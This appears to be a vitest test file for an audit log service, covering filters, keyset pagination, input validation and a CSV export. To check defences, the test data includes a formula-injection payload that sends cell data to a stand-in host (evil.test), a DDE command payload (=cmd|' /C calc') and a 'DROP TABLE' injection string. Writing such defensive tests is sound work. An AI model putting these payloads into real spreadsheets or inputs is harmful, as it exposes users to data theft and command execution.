// The audit log query service on real Postgres: each filter and their combinations, keyset pages (no duplicates
// or gaps, stable when events arrive between pages), bad filters refused with AuditQueryError, and the CSV export
// (header, joined email, quoting, formula injection neutralised, unicode, batches, the row cap).
import { describe, it, expect, beforeAll, afterAll } from "vitest";
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { startTestApp, type TestApp } from "../helpers/test-app.ts";
import { createAuditLog, AuditQueryError, EXPORT_COLUMNS, type AuditLog } from "../../src/services/audit-log.ts";

const T0 = new Date("2026-11-01T00:00:00.000Z");
const at = (minutes: number) => new Date(T0.getTime() + minutes * 60_000);

describe("audit log query", () => {
  let t: TestApp;
  let log: AuditLog;
  let alice: { id: string; email: string };
  let bob: { id: string; email: string };
  const teamA = randomUUID();
  const teamB = randomUUID();

  const add = (e: {
    type: string;
    outcome?: "success" | "failure";
    userId?: string | null;
    minutes: number;
    data?: Record<string, string>;
    ip?: string;
    userAgent?: string;
    actorId?: string;
    clientId?: string;
  }) =>
    t.app.db.prisma.auditEvent.create({
      data: {
        type: e.type,
        outcome: e.outcome ?? "success",
        userId: e.userId ?? null,
        createdAt: at(e.minutes),
        data: e.data ?? {},
        ip: e.ip ?? null,
        userAgent: e.userAgent ?? null,
        actorId: e.actorId ?? null,
        clientId: e.clientId ?? null,
      },
    });

  const types = async (input: Parameters<AuditLog["list"]>[0]) =>
    (await log.list({ limit: 200, ...input })).events.map((e) => `${e.type}@${e.createdAt.slice(11, 16)}`);

  beforeAll(async () => {
    t = await startTestApp();
    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
    alice = await t.createUser({ email: `alice-${randomUUID().slice(0, 8)}@example.test` });
    bob = await t.createUser({ email: `bob-${randomUUID().slice(0, 8)}@example.test` });
    // the test app itself may have written events at start: keep this dataset in its own November range
    await add({ type: "login.succeeded", userId: alice.id, minutes: 0, data: { teamId: teamA } });
    await add({ type: "login.failed", outcome: "failure", userId: alice.id, minutes: 1 });
    await add({ type: "login.second_factor_failed", outcome: "failure", userId: bob.id, minutes: 2 });
    await add({ type: "team.member.role_changed", userId: bob.id, actorId: alice.id, minutes: 3, data: { teamId: teamA } });
    await add({ type: "team.member.removed", userId: bob.id, minutes: 4, data: { teamId: teamB } });
    await add({ type: "loginx.other", userId: alice.id, minutes: 5 });
    await add({ type: "login.failed", outcome: "failure", userId: null, minutes: 6 });
    await add({ type: "password_reset.requested", userId: alice.id, minutes: 7 });
  });
  afterAll(async () => {
    await t?.close();
  });

  const nov = { from: "2026-11-01T00:00:00Z", to: "2026-11-02T00:00:00Z" };

  it("no filter but the range: every event of the range, newest first, with the user's email", async () => {
    const { events, nextCursor } = await log.list(nov);
    expect(events.map((e) => e.type)).toEqual([
      "password_reset.requested",
      "login.failed",
      "loginx.other",
      "team.member.removed",
      "team.member.role_changed",
      "login.second_factor_failed",
      "login.failed",
      "login.succeeded",
    ]);
    expect(nextCursor).toBeNull();
    const first = events.at(-1)!;
    expect(first).toMatchObject({
      userId: alice.id,
      userEmail: alice.email,
      outcome: "success",
      createdAt: "2026-11-01T00:00:00.000Z",
      data: { teamId: teamA },
    });
    expect(typeof first.id).toBe("string");
    expect(events[1]).toMatchObject({ userId: null, userEmail: null });
  });

  it("filters by user", async () => {
    expect(await types({ ...nov, userId: bob.id })).toEqual([
      "team.member.removed@00:04",
      "team.member.role_changed@00:03",
      "login.second_factor_failed@00:02",
    ]);
  });

  it("filters by team (the teamId in the event's data)", async () => {
    expect(await types({ ...nov, teamId: teamA })).toEqual(["team.member.role_changed@00:03", "login.succeeded@00:00"]);
    expect(await types({ ...nov, teamId: teamB })).toEqual(["team.member.removed@00:04"]);
    expect(await types({ ...nov, teamId: randomUUID() })).toEqual([]);
    expect(await types({ ...nov, teamId: teamB.toUpperCase() })).toEqual(["team.member.removed@00:04"]);
  });

  it("filters by exact type and by prefix (login. matches login.* but not loginx.*)", async () => {
    expect(await types({ ...nov, type: "login.failed" })).toEqual(["login.failed@00:06", "login.failed@00:01"]);
    expect(await types({ ...nov, type: "login." })).toEqual([
      "login.failed@00:06",
      "login.second_factor_failed@00:02",
      "login.failed@00:01",
      "login.succeeded@00:00",
    ]);
    expect(await types({ ...nov, type: "login.*" })).toEqual(await types({ ...nov, type: "login." }));
    expect(await types({ ...nov, type: "login" })).toEqual([]);
    expect(await types({ ...nov, type: "team.member." })).toEqual(["team.member.removed@00:04", "team.member.role_changed@00:03"]);
  });

  it("filters by outcome", async () => {
    expect(await types({ ...nov, outcome: "failure" })).toEqual([
      "login.failed@00:06",
      "login.second_factor_failed@00:02",
      "login.failed@00:01",
    ]);
  });

  it("filters by time range [from, to): from included, to excluded", async () => {
    expect(await types({ from: "2026-11-01T00:01:00Z", to: "2026-11-01T00:03:00Z" })).toEqual([
      "login.second_factor_failed@00:02",
      "login.failed@00:01",
    ]);
    expect(await types({ from: "2026-11-01T01:01:00+01:00", to: "2026-11-01T00:02:00.001Z" })).toEqual([
      "login.second_factor_failed@00:02",
      "login.failed@00:01",
    ]);
  });

  it("combines filters (all must hold)", async () => {
    expect(await types({ ...nov, userId: alice.id, type: "login.", outcome: "failure" })).toEqual(["login.failed@00:01"]);
    expect(await types({ ...nov, userId: bob.id, teamId: teamA })).toEqual(["team.member.role_changed@00:03"]);
    expect(
      await types({ from: "2026-11-01T00:02:00Z", to: "2026-11-01T00:10:00Z", type: "login.", outcome: "failure", userId: bob.id }),
    ).toEqual(["login.second_factor_failed@00:02"]);
    expect(await types({ ...nov, teamId: teamB, outcome: "failure" })).toEqual([]);
  });

  it("empty strings are no filter (as an empty form field sends)", async () => {
    expect((await log.list({ ...nov, userId: "", teamId: "", type: "", outcome: "" as never })).events).toHaveLength(8);
  });

  it.each([
    [{ userId: "not-a-uuid" }, "userId"],
    [{ teamId: "x" }, "teamId"],
    [{ type: "login.%" }, "type"],
    [{ type: "Login.Failed; DROP TABLE users" }, "type"],
    [{ outcome: "maybe" }, "outcome"],
    [{ from: "yesterday" }, "from"],
    [{ to: "2026-13-01T00:00:00Z" }, "to"],
    [{ limit: 0 }, "limit"],
    [{ limit: 201 }, "limit"],
    [{ limit: "ten" }, "limit"],
    [{ cursor: "garbage" }, "cursor"],
    [{ cursor: Buffer.from("2026-11-01T00:00:00.000Z|1|2").toString("base64url") }, "cursor"],
    [{ cursor: Buffer.from("2026-11-01T00:00:00.000Z|9999999999999999999").toString("base64url") }, "cursor"],
    [{ sort: "asc" }, ""],
    [{ from: "2026-11-02T00:00:00Z", to: "2026-11-01T00:00:00Z" }, "to"],
  ])("refuses %j with an AuditQueryError naming the field", async (input, field) => {
    const err = await log.list(input as never).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(AuditQueryError);
    expect((err as AuditQueryError).code).toBe("audit.invalid_query");
    if (field) expect((err as AuditQueryError).issues.map((i) => i.path)).toContain(field);
  });

  it("an export with a bad filter throws before any chunk", () => {
    expect(() => log.exportCsv({ userId: "nope" })).toThrow(AuditQueryError);
  });
});

describe("audit log pages", () => {
  let t: TestApp;
  let log: AuditLog;
  let userId: string;

  beforeAll(async () => {
    t = await startTestApp();
    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
    userId = (await t.createUser()).id;
    // 25 events; several share one created_at (ties are broken by id)
    for (let i = 0; i < 25; i++) {
      await t.app.db.prisma.auditEvent.create({
        data: {
          type: "page.test",
          outcome: "success",
          userId,
          data: { n: i },
          createdAt: new Date(Date.UTC(2026, 10, 5, 0, Math.floor(i / 3))),
        },
      });
    }
  });
  afterAll(async () => {
    await t?.close();
  });

  const all = async (limit: number) => {
    const seen: number[] = [];
    let cursor: string | undefined;
    for (let pages = 0; pages < 100; pages++) {
      const page = await log.list({ userId, type: "page.test", limit, ...(cursor ? { cursor } : {}) });
      seen.push(...page.events.map((e) => (e.data as { n: number }).n));
      if (!page.nextCursor) return { seen, pages: pages + 1 };
      cursor = page.nextCursor;
    }
    throw new Error("no last page");
  };

  it("pages through every event once, newest first, with no gaps (ties on time included)", async () => {
    const expected = Array.from({ length: 25 }, (_, i) => 24 - i);
    for (const limit of [1, 3, 7, 10, 25, 200]) {
      const { seen, pages } = await all(limit);
      expect(seen).toEqual(expected);
      expect(pages).toBe(Math.max(1, Math.ceil(25 / limit)));
    }
  });

  it("a full last page has no next cursor; the default page size is 50", async () => {
    expect((await log.list({ userId, limit: 25 })).nextCursor).toBeNull();
    expect((await log.list({ userId })).events).toHaveLength(25);
  });

  it("events recorded between two page loads change nothing on later pages", async () => {
    const first = await log.list({ userId, limit: 10 });
    expect(first.events.map((e) => (e.data as { n: number }).n)).toEqual([24, 23, 22, 21, 20, 19, 18, 17, 16, 15]);
    // new events (now, so newer than every row) through the ordinary insert, and one at the very time of the last row seen
    await t.app.queries.auditEvents.insert({ type: "page.test", outcome: "success", userId, data: { n: 100 } });
    await t.app.db.prisma.auditEvent.create({
      data: { type: "page.test", outcome: "success", userId, data: { n: 101 }, createdAt: new Date(Date.UTC(2026, 10, 5, 0, 5)) },
    });
    const second = await log.list({ userId, limit: 10, cursor: first.nextCursor! });
    expect(second.events.map((e) => (e.data as { n: number }).n)).toEqual([14, 13, 12, 11, 10, 9, 8, 7, 6, 5]);
    const third = await log.list({ userId, limit: 10, cursor: second.nextCursor! });
    expect(third.events.map((e) => (e.data as { n: number }).n)).toEqual([4, 3, 2, 1, 0]);
    expect(third.nextCursor).toBeNull();
    // a fresh list shows them where they belong: the newest on top, the tied one among its equals by id
    expect((await log.list({ userId, limit: 10 })).events.map((e) => (e.data as { n: number }).n)).toEqual([
      100, 24, 23, 22, 21, 20, 19, 18, 101, 17,
    ]);
  });
});

describe("audit log CSV export", () => {
  let t: TestApp;
  let log: AuditLog;
  let user: { id: string; email: string };
  const range = { from: "2026-10-01T00:00:00Z", to: "2026-10-02T00:00:00Z" };

  const collect = async (chunks: AsyncIterable<string>) => {
    const parts: string[] = [];
    for await (const c of chunks) parts.push(c);
    return parts;
  };
  const rowsOf = (text: string) => parse(text, { bom: true }) as string[][];

  beforeAll(async () => {
    t = await startTestApp();
    log = createAuditLog(t.app.queries.auditEvents, t.app.services.audit);
    user = await t.createUser({ email: `zoë-${randomUUID().slice(0, 6)}@example.test` });
    const hostile = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"];
    for (const [i, ua] of hostile.entries()) {
      await t.app.db.prisma.auditEvent.create({
        data: {
          type: "export.test",
          outcome: "success",
          userId: user.id,
          userAgent: ua,
          ip: "203.0.113.9",
          clientId: "=cmd|' /C calc'!A0",
          actorId: "@admin",
          createdAt: new Date(Date.UTC(2026, 9, 1, 1, i)),
          data: { note: 'comma, "quote"\nnewline', name: "東京 🛡️" },
        },
      });
    }
    await t.app.db.prisma.auditEvent.create({
      data: { type: "export.test", outcome: "failure", userId: null, createdAt: new Date(Date.UTC(2026, 9, 1, 2)), data: {} },
    });
  });
  afterAll(async () => {
    await t?.close();
  });

  it("header, one row per event newest first, every column, the user's email joined", async () => {
    const text = (await collect(log.exportCsv(range))).join("");
    expect(text.startsWith("\uFEFFtime,type,outcome,user_id,user_email,actor,client,ip,user_agent,data\r\n")).toBe(true);
    const rows = rowsOf(text);
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(8);
    expect(rows[1]).toEqual(["2026-10-01T02:00:00.000Z", "export.test", "failure", "", "", "", "", "", "", "{}"]);
    const last = rows[7]!;
    expect(last.slice(0, 5)).toEqual(["2026-10-01T01:00:00.000Z", "export.test", "success", user.id, user.email]);
    expect(last[7]).toBe("203.0.113.9");
    expect(JSON.parse(last[9]!)).toEqual({ note: 'comma, "quote"\nnewline', name: "東京 🛡️" });
  });

  it("neutralises formula injection in every cell (=HYPERLINK, +1, -1, @SUM, tab, CR), quoting what needs it", async () => {
    const rows = rowsOf((await collect(log.exportCsv(range))).join(""))
      .slice(2, 8)
      .reverse();
    expect(rows.map((r) => r[8])).toEqual([
      '\'=HYPERLINK("http://evil.test/?x="&A1,"click")',
      "'+1",
      "'-1",
      "'@SUM(A1:A9)",
      "'\tTab",
      "'\rCR",
    ]);
    for (const row of rows) {
      expect(row[5]).toBe("'@admin");
      expect(row[6]).toBe("'=cmd|' /C calc'!A0");
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("streams in batches and honours a row cap", async () => {
    const chunks = await collect(log.exportCsv(range, { batch: 2 }));
    expect(chunks).toHaveLength(1 + 4); // header, then 7 rows as 2+2+2+1
    expect(rowsOf(chunks.join(""))).toHaveLength(8);
    const capped = rowsOf((await collect(log.exportCsv(range, { batch: 2, maxRows: 3 }))).join(""));
    expect(capped.map((r) => r[0])).toEqual(["time", "2026-10-01T02:00:00.000Z", "2026-10-01T01:05:00.000Z", "2026-10-01T01:04:00.000Z"]);
  });

  it("filters the export like a page, and exportSize counts it", async () => {
    const rows = rowsOf((await collect(log.exportCsv({ ...range, outcome: "failure" }))).join(""));
    expect(rows).toHaveLength(2);
    expect(await log.exportSize(range)).toEqual({ rows: 7, truncated: false });
    expect(await log.exportSize({ ...range, userId: user.id })).toEqual({ rows: 6, truncated: false });
  });

  it("an empty range is the header alone", async () => {
    expect(rowsOf((await collect(log.exportCsv({ from: "2020-01-01T00:00:00Z", to: "2020-01-02T00:00:00Z" }))).join(""))).toEqual([
      [...EXPORT_COLUMNS],
    ]);
  });
});
